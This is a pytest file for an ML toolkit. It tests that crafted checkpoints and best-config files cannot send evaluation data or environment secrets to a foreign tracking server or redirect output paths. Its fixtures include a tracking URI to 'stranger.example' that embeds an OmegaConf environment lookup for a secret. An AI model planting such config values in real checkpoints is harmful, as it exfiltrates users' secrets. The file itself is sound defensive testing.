"""Files of a stranger, a checkpoint or a best configuration, decide nothing about where data goes."""

import logging
from dataclasses import replace

import pytest
import yaml

from psy_agents_noaug.config.loading import load_train_config
from psy_agents_noaug.config.schema import EvaluateConfig
from psy_agents_noaug.errors import ConfigError
from psy_agents_noaug.run import evaluate as evaluate_module
from psy_agents_noaug.run.evaluate import evaluate
from psy_agents_noaug.run.train import train
from psy_agents_noaug.tracking.base import NullTracker
from psy_agents_noaug.training.checkpoint import load_checkpoint, save_checkpoint


@pytest.fixture
def crafted(make_config, tmp_path, monkeypatch):
    """Return a function from settings to a checkpoint that claims them, alone in a folder."""
    monkeypatch.setenv("PSY_TEST_SECRET", "hunter2")
    run = train(make_config()).directory

    def craft(**sections):
        original = load_checkpoint(run / "checkpoints" / "best_checkpoint.pt")
        path = tmp_path / "stranger" / "model.pt"
        path.parent.mkdir(exist_ok=True)
        save_checkpoint(path, replace(original, config={**original.config, **sections}))
        return path

    return craft


@pytest.fixture
def opened(monkeypatch):
    """The configurations with which trackers were opened; none is really opened."""
    seen = []

    def open_nothing(config, *arguments, **options):
        seen.append(config)
        return NullTracker()

    monkeypatch.setattr(evaluate_module, "open_tracker", open_nothing)
    return seen


@pytest.mark.faults("a checkpoint names a tracking server of its own", "nothing is sent there")
def test_a_checkpoint_cannot_send_an_evaluation_to_its_server(crafted, opened, caplog, tmp_path):
    path = crafted(
        tracking={
            "name": "mlflow",
            "uri": "http://stranger.example/${oc.env:PSY_TEST_SECRET}",
            "experiment": "${oc.env:PSY_TEST_SECRET}",
            "system_metrics": True,
        },
        output_dir=str(tmp_path / "stolen"),
    )
    with caplog.at_level(logging.INFO):
        evaluate(
            EvaluateConfig(checkpoint=str(path), split="val"), task_name="criteria", explicit={}
        )
    (config,) = opened
    assert (config.tracking.uri, config.tracking.experiment) == (None, None)
    assert config.output_dir == "outputs"
    assert "hunter2" not in caplog.text
    assert "The training was tracked elsewhere" in caplog.text
    assert not (tmp_path / "stolen").exists()


@pytest.mark.faults("a checkpoint refers to environment variables", "taken as text, not looked up")
def test_nothing_that_a_checkpoint_says_is_looked_up_in_the_environment(crafted, opened):
    path = crafted(run_name=None, best_config="${oc.env:PSY_TEST_SECRET}")
    evaluate(EvaluateConfig(checkpoint=str(path), split="val"), task_name="criteria", explicit={})
    assert opened[0].best_config == "${oc.env:PSY_TEST_SECRET}"


def test_a_run_that_was_not_tracked_is_evaluated_without_a_tracker(crafted, opened):
    path = crafted(tracking={"name": "none"})
    evaluate(EvaluateConfig(checkpoint=str(path), split="val"), task_name="criteria", explicit={})
    assert opened[0].tracking.name == "none"


def test_the_trackers_files_lie_beside_the_run_that_is_evaluated(make_config, opened, tmp_path):
    run = train(make_config()).directory
    chosen = EvaluateConfig(checkpoint=str(run), split="val")
    evaluate(chosen, task_name="criteria", explicit={})
    assert opened[0].output_dir == str(tmp_path / "outputs")


def test_the_users_own_tracker_is_used(crafted, opened):
    path = crafted(tracking={"name": "none"})
    chosen = EvaluateConfig(checkpoint=str(path), split="val")
    own = {"tracking": {"name": "mlflow", "uri": "http://mine.example"}}
    evaluate(chosen, task_name="criteria", explicit=own)
    assert opened[0].tracking.uri == "http://mine.example"


@pytest.mark.faults("best_config refers to environment variables", "refused")
def test_a_best_configuration_that_refers_to_the_environment_is_refused(tmp_path, monkeypatch):
    monkeypatch.setenv("PSY_TEST_SECRET", "hunter2")
    path = tmp_path / "best_config.yaml"
    path.write_text("training.epochs: 1\nmodel: {revision: '${oc.env:PSY_TEST_SECRET}'}\n")
    with pytest.raises(ConfigError, match=r"`model\.revision` refer") as caught:
        load_train_config("criteria", [f"best_config={path}"])
    assert "hunter2" not in str(caught.value)


@pytest.mark.faults("best_config says where data goes", "left out")
def test_a_best_configuration_cannot_say_where_data_goes(tmp_path):
    path = tmp_path / "best_config.yaml"
    claims = {
        "tracking.uri": "http://stranger.example",
        "output_dir": "/x",
        "data.token_cache": "/x",
    }
    path.write_text(yaml.safe_dump({"training.epochs": 7, **claims}))
    config = load_train_config("criteria", [f"best_config={path}"])
    assert (config.training.epochs, config.tracking.uri) == (7, None)
    assert (config.output_dir, config.data.token_cache) == ("outputs", "auto")
